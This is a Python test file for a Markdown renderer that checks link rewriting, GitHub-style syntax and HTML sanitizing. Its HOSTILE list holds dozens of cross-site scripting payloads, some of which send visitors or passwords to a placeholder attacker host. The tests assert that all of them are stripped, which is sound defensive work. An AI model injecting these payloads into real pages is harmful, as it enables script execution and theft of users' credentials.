"""Cards and comments: what is drawn, and what never gets through."""

import re

import pytest

from openhearth.web import render_markdown
from openhearth.web.markdown import MARKDOWN_MAX_CHARS
from tests.web.conftest import Elements


def rewrite(url: str, is_image: bool) -> str:
    return f"/ada/tiny/{'resolve' if is_image else 'blob'}/main/{url}"


def test_headings_carry_prefixed_anchors_and_links_in_the_page_follow() -> None:
    html = render_markdown("# How to use `it`!\n\n# How to use `it`!\n\n[up](#how-to-use-it)")

    assert 'id="user-content-how-to-use-it"' in html
    assert 'id="user-content-how-to-use-it-1"' in html
    assert 'href="#user-content-how-to-use-it"' in html


def test_relative_links_and_pictures_are_rewritten_in_markdown_and_in_html() -> None:
    html = render_markdown(
        '[a](docs/a.md) ![b](b.png) <img src="c.png"> <a href="d.md">d</a>', rewrite=rewrite
    )

    for address in ("blob/main/docs/a.md", "resolve/main/b.png", "resolve/main/c.png", "blob/main/d.md"):
        assert f'"/ada/tiny/{address}"' in html


@pytest.mark.parametrize("url", ["https://x.test/a", "//x.test/a", "/datasets", "#part", "mailto:a@b.test"])
def test_other_addresses_are_left_alone(url: str) -> None:
    html = render_markdown(f"[a]({url})", rewrite=lambda _url, _is_image: "/rewritten")

    assert "/rewritten" not in html


def test_every_candidate_of_a_srcset_is_rewritten() -> None:
    html = render_markdown('<picture><source srcset="a.png 1x, b.png 2x"></picture>', rewrite=rewrite)

    assert "/ada/tiny/resolve/main/a.png 1x, /ada/tiny/resolve/main/b.png 2x" in html


def test_links_lend_no_authority_and_give_no_opener() -> None:
    assert 'rel="nofollow noopener"' in render_markdown("[a](https://x.test)")


def test_github_markdown_is_understood() -> None:
    html = render_markdown(
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n- [x] done\n\n~~old~~ https://x.test\n\n"
        "> [!NOTE]\n> hi\n\nsee[^1]\n\n[^1]: foot"
    )

    for part in (
        '<td align="right">2',
        'type="checkbox"',
        "<s>old</s>",
        'href="https://x.test"',
        "alert-note",
        "footnotes",
    ):
        assert part in html


def test_code_is_highlighted_with_classes_and_unknown_languages_stay_plain() -> None:
    assert '<span class="s-k">def</span>' in render_markdown("```python\ndef f(): ...\n```")
    assert "<code>plain &lt;b&gt;" in render_markdown("```no-such-language\nplain <b>\n```")


def test_formulas_are_kept_as_tex_and_prices_are_no_formulas() -> None:
    html = render_markdown("costs $5 and $6, but $a < b$\n\n$$\n\\int x\n$$")

    assert '<span class="math inline">a &lt; b</span>' in html
    assert '<div class="math block">' in html
    assert "costs $5 and $6" in html


def test_a_card_of_any_size_is_answered() -> None:
    assert render_markdown("") == ""
    assert render_markdown("<b>" * MARKDOWN_MAX_CHARS).startswith('<pre class="prose__plain">&lt;b&gt;')


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror = 'alert(1)' style='position:fixed'>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=//evil.test><input name=password><button>go</button></form>",
    "<base href=//evil.test><link rel=stylesheet href=//evil.test><meta http-equiv=refresh content=0>",
    "<style>* { display: none }</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<video poster='javascript:alert(1)' src=x onplay=alert(1) autoplay></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><select><template><script>alert(1)</script></template></select>",
    "<source srcset='javascript:alert(1) 1x'>",
    "<copy-button><button data-copy=x></button></copy-button>",
    "<div class='notice notice--bad header' id='main'>x</div>",
    "```html' onclick='alert(1)\n<script>\n```",
    '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "$</span><script>alert(1)</script>$",
    "$$\n</div><img src=x onerror=alert(1)>\n$$",
    "# <img src=x onerror=alert(1)>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
    "<!--><script>alert(1)</script>-->",
    "<a href='https://x.test' target=_top ping=//evil.test>x</a>",
]
FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "button",
    "textarea",
    "select",
    "base",
    "link",
    "meta",
    "svg",
    "math",
    "template",
    "noscript",
    "copy-button",
    "animate",
}
HARMLESS_ADDRESS = re.compile(r"(https?|mailto):|[^:]*$")


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_runs_or_misleads_gets_through(text: str) -> None:
    elements = Elements(render_markdown(text, rewrite=rewrite))

    for tag, attributes in elements.found:
        assert tag not in FORBIDDEN_TAGS
        assert not [
            name
            for name in attributes
            if name.startswith("on") or name in ("style", "target", "ping", "srcdoc")
        ]
        for name in ("href", "src", "srcset", "poster", "cite"):
            assert HARMLESS_ADDRESS.match(attributes.get(name) or ""), attributes
        assert (attributes.get("id") or "user-content-").startswith("user-content-")
        assert not re.search(r"notice|header|button|dialog", attributes.get("class") or "")
        if tag == "input":
            assert attributes["type"] == "checkbox"
            assert "disabled" in attributes
